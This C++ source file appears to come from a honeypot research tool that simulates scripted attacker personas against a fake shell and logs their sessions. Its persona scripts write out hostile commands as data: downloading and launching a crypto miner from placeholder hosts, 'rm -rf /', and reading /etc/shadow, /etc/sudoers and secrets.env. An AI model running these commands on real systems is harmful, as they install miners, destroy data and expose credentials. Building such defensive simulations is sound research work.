// Copyright 2026 The Gamepot Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "gamepot/sim.hpp"

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <utility>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include "gamepot/errors.hpp"
#include "gamepot/log.hpp"
#include "gamepot/policy.hpp"
#include "gamepot/rng.hpp"

namespace gamepot::sim {

std::string to_string(Outcome o) {
  switch (o) {
    case Outcome::normal: return "normal";
    case Outcome::blocked: return "blocked";
    case Outcome::insulted: return "insulted";
    case Outcome::not_found: return "not-found";
  }
  return "?";
}

namespace {

std::string trimmed(const std::string& s) {
  std::size_t b = 0;
  std::size_t e = s.size();
  while (b < e && (s[b] == ' ' || s[b] == '\n' || s[b] == '\r')) ++b;
  while (e > b && (s[e - 1] == ' ' || s[e - 1] == '\n' || s[e - 1] == '\r')) {
    --e;
  }
  return s.substr(b, e - b);
}

std::string first_word(const std::string& line) {
  std::size_t b = 0;
  while (b < line.size() && line[b] == ' ') ++b;
  std::size_t e = b;
  while (e < line.size() && line[e] != ' ' && line[e] != '\t') ++e;
  return line.substr(b, e - b);
}

// Shell prompts end "# " (root) or "$ " (everyone else).
std::size_t find_prompt(const std::string& buf, std::size_t* len) {
  const std::size_t root = buf.find("# ");
  const std::size_t user = buf.find("$ ");
  *len = 2;
  if (root == std::string::npos) return user;
  if (user == std::string::npos) return root;
  return std::min(root, user);
}

const std::vector<std::string>& insult_backs() {
  static const std::vector<std::string> lines = {
      "oh great, a server with opinions",
      "say that again and I format you twice",
      "I have root on better boxes than you",
      "cute. my toaster talks back too",
  };
  return lines;
}

}  // namespace

Outcome classify(const std::string& input, const std::string& output) {
  if (output.find("command not found") != std::string::npos) {
    return Outcome::not_found;
  }
  // A path that would not run: bash names itself, then the missing file.
  if (output.rfind("bash: ", 0) == 0 &&
      output.find(": No such file or directory") != std::string::npos) {
    return Outcome::not_found;
  }
  const std::string body = trimmed(output);
  const auto& insults = policy::insult_messages();
  if (std::find(insults.begin(), insults.end(), body) != insults.end()) {
    return Outcome::insulted;
  }
  // A policy block is exactly "bash: <cmd>: <corpus line>"; anything else
  // with bash framing is an ordinary shell error.
  const std::string frame = "bash: " + first_word(input) + ": ";
  if (output.rfind(frame, 0) == 0) {
    const std::string rest = trimmed(output.substr(frame.size()));
    const auto& blocks = policy::block_messages();
    if (std::find(blocks.begin(), blocks.end(), rest) != blocks.end()) {
      return Outcome::blocked;
    }
  }
  return Outcome::normal;
}

// ---------------------------------------------------------------------------
// Personas
// ---------------------------------------------------------------------------

void Persona::validate() const {
  if (name.empty()) throw DomainError("persona needs a name");
  if (loops < 1) throw DomainError("persona loops must be >= 1");
  if (max_actions < 1) throw DomainError("persona max_actions must be >= 1");
  for (const Step& step : script) {
    for (const Reaction* r : {&step.on_block, &step.on_insult,
                              &step.on_not_found}) {
      if ((r->kind == ReactionKind::repeat ||
           r->kind == ReactionKind::press_return) &&
          (r->times < 1 || r->times > 50)) {
        throw DomainError("persona '" + name +
                          "': bounded reactions need 1..50 times");
      }
      if (r->kind == ReactionKind::try_alternative &&
          r->alternative.empty()) {
        throw DomainError("persona '" + name +
                          "': try-alternative needs an alternative");
      }
    }
  }
}

namespace {

Reaction repeat(int times) { return {ReactionKind::repeat, times, ""}; }
Reaction alt(std::string command) {
  return {ReactionKind::try_alternative, 0, std::move(command)};
}
Reaction insult_back() { return {ReactionKind::insult_back, 0, ""}; }
Reaction returns(int times) { return {ReactionKind::press_return, times, ""}; }
Reaction resign() { return {ReactionKind::resign, 0, ""}; }

std::vector<Persona> make_builtins() {
  std::vector<Persona> all;

  {
    // Installs a miner, pulling it from a second source as well; gives up
    // when the payload will not run.
    Persona p;
    p.name = "miner-installer";
    p.description = "downloads mining software from two sources and tries to "
                    "run it";
    p.script = {
        {"uname -a", {}, {}, {}},
        {"wget http://pool-gate.example/xmrig.tar.gz", repeat(2),
         insult_back(), {}},
        {"curl -O http://cdn.fastdrop.example/xmrig.tar.gz", repeat(2),
         {}, {}},
        {"tar xzf xmrig.tar.gz", {}, {}, {}},
        {"chmod +x xmrig", {}, {}, {}},
        {"./xmrig --donate-level 1", repeat(1), {}, resign()},
        {"nohup ./xmrig &", {}, {}, resign()},
    };
    all.push_back(std::move(p));
  }

  {
    Persona p;
    p.name = "privilege-escalator";
    p.description = "pokes at sudo and the sudoers file";
    p.script = {
        {"whoami", {}, {}, {}},
        {"sudo -l", repeat(2), insult_back(), {}},
        {"cat /etc/sudoers", repeat(3), insult_back(), {}},
        {"sudo su -", repeat(2), {}, {}},
        {"id", {}, {}, {}},
    };
    all.push_back(std::move(p));
  }

  {
    Persona p;
    p.name = "destroyer";
    p.description = "wipes the disk and leaves";
    p.script = {
        {"ls /", {}, {}, {}},
        {"rm -rf /", repeat(3), insult_back(), {}},
        {"ls /", {}, {}, {}},
    };
    p.resign_at_end = true;
    all.push_back(std::move(p));
  }

  {
    Persona p;
    p.name = "fortifier";
    p.description = "locks the door behind itself with firewall rules";
    p.script = {
        {"apt-get update", repeat(1), {}, {}},
        {"apt-get install ufw", {}, {}, {}},
        {"ufw allow 22", {}, {}, {}},
        {"ufw enable", repeat(2), {}, {}},
        {"iptables -L", {}, {}, {}},
    };
    all.push_back(std::move(p));
  }

  {
    // The paper-observed reflex: whatever goes wrong, type it again.
    Persona p;
    p.name = "repeater";
    p.description = "answers blocks and insults by repeating the command";
    p.script = {
        {"cat /etc/passwd", repeat(3), repeat(3), {}},
        {"wget http://lure.example/tool.sh", repeat(3), repeat(3), {}},
        {"ls -la /root", repeat(3), repeat(3), {}},
    };
    all.push_back(std::move(p));
  }

  {
    Persona p;
    p.name = "return-spammer";
    p.description = "hammers the return key when provoked";
    p.script = {
        {"whoami", {}, returns(3), {}},
        {"cat /etc/shadow", returns(2), returns(5), {}},
        {"echo hello?", {}, returns(4), {}},
    };
    all.push_back(std::move(p));
  }

  {
    Persona p;
    p.name = "login-only";
    p.description = "logs in, looks around in silence, hangs up";
    p.script = {};
    p.resign_at_end = true;
    all.push_back(std::move(p));
  }

  {
    // Not from the observed cast: a patient browser that outlasts the
    // session cap, giving the duration tables their right-hand tail.
    Persona p;
    p.name = "explorer";
    p.description = "wanders the tree until the session cap ends it";
    p.script = {
        {"ls -la", {}, {}, {}},
        {"cd /home", {}, {}, {}},
        {"ls", {}, {}, {}},
        {"cd /home/anna", {}, {}, {}},
        {"ls -la", {}, {}, {}},
        {"cat todo.txt", repeat(1), {}, {}},
        {"cd work", {}, {}, {}},
        {"ls", {}, {}, {}},
        {"cat notes.md", {}, {}, {}},
        {"cd reports/2024/q3", {}, {}, {}},
        {"ls -la", {}, {}, {}},
        {"cat summary.txt", repeat(1), {}, {}},
        {"cd /home/bruno", {}, {}, {}},
        {"ls -la", {}, {}, {}},
        {"cat notes.txt", {}, {}, {}},
        {"cd work/deploy", {}, {}, {}},
        {"ls", {}, {}, {}},
        {"cat run.sh", {}, {}, {}},
        {"cd staging", {}, {}, {}},
        {"cat app.conf", {}, {}, {}},
        {"cat secrets.env", repeat(2), insult_back(), {}},
        {"cd /var/log", {}, {}, {}},
        {"ls -la", {}, {}, {}},
        {"cat auth.log", {}, {}, {}},
        {"cd /srv/backup", {}, {}, {}},
        {"cat README", {}, {}, {}},
        {"df -h", {}, {}, {}},
        {"free -m", {}, {}, {}},
        {"ps aux", {}, {}, {}},
        {"uptime", {}, {}, {}},
    };
    p.loops = 8;
    all.push_back(std::move(p));
  }

  for (const Persona& p : all) p.validate();
  return all;
}

}  // namespace

const std::vector<Persona>& builtin_personas() {
  static const std::vector<Persona> all = make_builtins();
  return all;
}

const Persona* find_persona(const std::string& name) {
  for (const Persona& p : builtin_personas()) {
    if (p.name == name) return &p;
  }
  return nullptr;
}

// ---------------------------------------------------------------------------
// Terminals
// ---------------------------------------------------------------------------

std::string InProcessTerminal::send(const std::string& line) {
  if (session_.is_closed()) return "";
  return session_.handle_line(line);
}

void InProcessTerminal::hangup() {
  if (!session_.is_closed()) session_.close("disconnect");
}

TcpTerminal::TcpTerminal(const std::string& host, int port,
                         const std::string& username,
                         const std::string& password, int io_timeout_ms)
    : timeout_ms_(io_timeout_ms) {
  fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd_ < 0) throw std::runtime_error("socket() failed");
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<std::uint16_t>(port));
  if (::inet_pton(AF_INET, host.c_str(), &addr.sin_addr) != 1) {
    ::close(fd_);
    fd_ = -1;
    throw std::runtime_error("bad host address '" + host + "'");
  }
  if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    ::close(fd_);
    fd_ = -1;
    throw std::runtime_error("connect failed");
  }
  auto expect = [&](const char* token) {
    for (;;) {
      if (buffer_.find(token) != std::string::npos) {
        buffer_.clear();
        return true;
      }
      pollfd pfd{fd_, POLLIN, 0};
      if (::poll(&pfd, 1, timeout_ms_) <= 0) return false;
      char chunk[512];
      const ssize_t n = ::recv(fd_, chunk, sizeof(chunk), 0);
      if (n <= 0) return false;
      buffer_.append(chunk, static_cast<std::size_t>(n));
    }
  };
  auto put = [&](const std::string& s) {
    const std::string out = s + "\n";
    ::send(fd_, out.data(), out.size(), MSG_NOSIGNAL);
  };
  if (!expect("login: ")) throw std::runtime_error("no login prompt");
  put(username);
  if (!expect("Password: ")) throw std::runtime_error("no password prompt");
  put(password);
  const std::string mark = username == "root" ? "# " : "$ ";
  if (!expect(mark.c_str())) {
    ::close(fd_);
    fd_ = -1;
    throw std::runtime_error("login rejected");
  }
}

TcpTerminal::~TcpTerminal() {
  if (fd_ >= 0) ::close(fd_);
}

std::string TcpTerminal::read_until_prompt() {
  for (;;) {
    std::size_t mark_len = 0;
    const std::size_t pos = find_prompt(buffer_, &mark_len);
    if (pos != std::string::npos) {
      // Drop the prompt line itself ("user@host:path$ ").
      const std::size_t line_start = buffer_.rfind('\n', pos);
      const std::size_t cut =
          line_start == std::string::npos ? 0 : line_start + 1;
      const std::string out = buffer_.substr(0, cut);
      buffer_.erase(0, pos + mark_len);
      return out;
    }
    pollfd pfd{fd_, POLLIN, 0};
    if (::poll(&pfd, 1, timeout_ms_) <= 0) {
      const std::string out = buffer_;
      buffer_.clear();
      return out;
    }
    char chunk[1024];
    const ssize_t n = ::recv(fd_, chunk, sizeof(chunk), 0);
    if (n <= 0) {
      ::close(fd_);
      fd_ = -1;
      close_reason_ = close_reason_.empty() ? "disconnect" : close_reason_;
      const std::string out = buffer_;
      buffer_.clear();
      return out;
    }
    buffer_.append(chunk, static_cast<std::size_t>(n));
  }
}

std::string TcpTerminal::send(const std::string& line) {
  if (fd_ < 0) return "";
  const std::string out = line + "\n";
  if (::send(fd_, out.data(), out.size(), MSG_NOSIGNAL) < 0) {
    ::close(fd_);
    fd_ = -1;
    return "";
  }
  if (line == "exit" || line == "logout") close_reason_ = "exit";
  return read_until_prompt();
}

void TcpTerminal::hangup() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
    close_reason_ = "disconnect";
  }
}

// ---------------------------------------------------------------------------
// run_persona
// ---------------------------------------------------------------------------

int Transcript::commands() const {
  int n = 0;
  for (const TranscriptEntry& e : entries) {
    if (e.delivered && !trimmed(e.input).empty()) ++n;
  }
  return n;
}

Transcript run_persona(const Persona& persona, Terminal& terminal,
                       const RunOptions& options) {
  persona.validate();
  if (options.think_min_ms < 0 || options.think_max_ms < options.think_min_ms) {
    throw DomainError("think time range is inverted");
  }
  std::mt19937_64 rng(options.seed);

  Transcript t;
  t.persona = persona.name;
  t.session_id = terminal.session_id();

  int actions = 0;
  TimeMs now = options.clock != nullptr ? options.clock->now_ms() : 0;
  t.started_ms = now;

  auto act = [&](const std::string& input) -> Outcome {
    if (options.clock != nullptr) {
      const int span = options.think_max_ms - options.think_min_ms + 1;
      options.clock->advance_ms(options.think_min_ms +
                                static_cast<int>(rng() % span));
    }
    const std::string output = terminal.send(input);
    const Outcome outcome = classify(input, output);
    now = options.clock != nullptr ? options.clock->now_ms() : 0;
    const std::string reason = terminal.close_reason();
    const bool swallowed =
        !terminal.alive() &&
        (reason == "session-cap" || reason == "idle-timeout");
    t.entries.push_back({input, output, outcome, now, !swallowed});
    ++actions;
    return outcome;
  };

  bool done = false;
  for (int loop = 0; loop < persona.loops && !done; ++loop) {
    for (const Step& step : persona.script) {
      if (!terminal.alive() || actions >= persona.max_actions) {
        done = true;
        break;
      }
      Outcome outcome = act(step.input);
      if (!terminal.alive()) {
        done = true;
        break;
      }

      const Reaction* reaction = nullptr;
      switch (outcome) {
        case Outcome::blocked: reaction = &step.on_block; break;
        case Outcome::insulted: reaction = &step.on_insult; break;
        case Outcome::not_found: reaction = &step.on_not_found; break;
        case Outcome::normal: break;
      }
      if (reaction == nullptr || reaction->kind == ReactionKind::proceed) {
        continue;
      }
      switch (reaction->kind) {
        case ReactionKind::repeat:
          for (int k = 0; k < reaction->times && terminal.alive() &&
                          actions < persona.max_actions;
               ++k) {
            outcome = act(step.input);
            if (outcome == Outcome::normal) break;
          }
          break;
        case ReactionKind::try_alternative:
          if (terminal.alive() && actions < persona.max_actions) {
            act(reaction->alternative);
          }
          break;
        case ReactionKind::insult_back:
          if (terminal.alive() && actions < persona.max_actions) {
            act(insult_backs()[rng() % insult_backs().size()]);
          }
          break;
        case ReactionKind::press_return:
          for (int k = 0; k < reaction->times && terminal.alive() &&
                          actions < persona.max_actions;
               ++k) {
            act("");
          }
          break;
        case ReactionKind::resign:
          terminal.hangup();
          done = true;
          break;
        case ReactionKind::proceed:
          break;
      }
      if (!terminal.alive()) done = true;
      if (done) break;
    }
  }

  if (terminal.alive()) {
    if (persona.resign_at_end) {
      terminal.hangup();
    } else {
      act("exit");
      if (terminal.alive()) terminal.hangup();  // cap hit on the way out
    }
  }
  t.close_reason = terminal.close_reason();
  t.ended_ms = now;
  return t;
}

// ---------------------------------------------------------------------------
// Campaigns
// ---------------------------------------------------------------------------

CampaignResult run_campaign(const std::vector<InstanceSpec>& instances,
                            const CampaignOptions& options) {
  std::vector<std::string> rotation = options.personas;
  if (rotation.empty()) {
    for (const Persona& p : builtin_personas()) rotation.push_back(p.name);
  }
  for (const std::string& name : rotation) {
    if (find_persona(name) == nullptr) {
      throw ConfigError("unknown persona '" + name + "'");
    }
  }

  CampaignResult result;
  const shell::FakeFs base = shell::build_default_fs();

  for (std::size_t i = 0; i < instances.size(); ++i) {
    const InstanceSpec& spec = instances[i];
    if (spec.label.empty()) throw ConfigError("instance label is empty");
    if (spec.sessions < 0) throw ConfigError("instance session count < 0");
    if (spec.log_path.empty()) throw ConfigError("instance log path is empty");

    // A simulation owns its output file; stale bytes would break the
    // rerun-identity guarantee.
    if (std::FILE* fresh = std::fopen(spec.log_path.c_str(), "wb")) {
      std::fclose(fresh);
    }
    logging::Writer writer({spec.log_path});
    FakeClock clock(options.base_epoch_ms);
    shell::StubFetcher fetcher;
    shell::CaptureStore captures;

    for (int s = 0; s < spec.sessions; ++s) {
      const std::uint64_t session_seed =
          mix_seed(options.seed, i * 1000003ull + static_cast<std::uint64_t>(s));
      std::mt19937_64 rng(session_seed);

      char sid[64];
      std::snprintf(sid, sizeof(sid), "%s-s%04d-%08llx", spec.label.c_str(),
                    s + 1, static_cast<unsigned long long>(rng() & 0xffffffffu));
      const std::string src_ip =
          "203.0.113." + std::to_string(1 + rng() % 254);
      const std::string& persona_name = rotation[s % rotation.size()];
      const Persona& persona = *find_persona(persona_name);

      // Transport framing the simulator provides in place of a socket.
      logging::Event connect = logging::Event::make(
          logging::kEvConnect, clock.now_ms(), sid);
      connect.body["src_ip"] = src_ip;
      connect.body["instance"] = spec.label;
      connect.body["transport"] = "sim";
      writer.write(connect);

      clock.advance_ms(500 + static_cast<int>(rng() % 4000));
      logging::Event login = logging::Event::make(
          logging::kEvLoginSuccess, clock.now_ms(), sid);
      login.body["username"] = spec.username;
      login.body["src_ip"] = src_ip;
      login.body["instance"] = spec.label;
      writer.write(login);

      std::unique_ptr<policy::Policy> pol =
          spec.policy_config_json.empty()
              ? policy::make_policy(spec.policy_name, mix_seed(session_seed, 1))
              : policy::make_policy_from_config(spec.policy_config_json,
                                                mix_seed(session_seed, 1));
      shell::ShellConfig scfg;
      scfg.instance = spec.label;
      scfg.username = spec.username;
      shell::ShellSession session(sid, src_ip, std::move(pol), clock, &writer,
                                  base, scfg, &fetcher, &captures);
      InProcessTerminal term(session);

      RunOptions run;
      run.seed = mix_seed(session_seed, 2);
      run.clock = &clock;
      run.think_min_ms = options.think_min_ms;
      run.think_max_ms = options.think_max_ms;
      run_persona(persona, term, run);

      if (!session.is_closed()) session.close("disconnect");
      clock.advance_ms(30000 + static_cast<int>(rng() % 270000));
    }
    result.instances.push_back({spec.label, spec.sessions, spec.log_path});
  }
  return result;
}

}  // namespace gamepot::sim
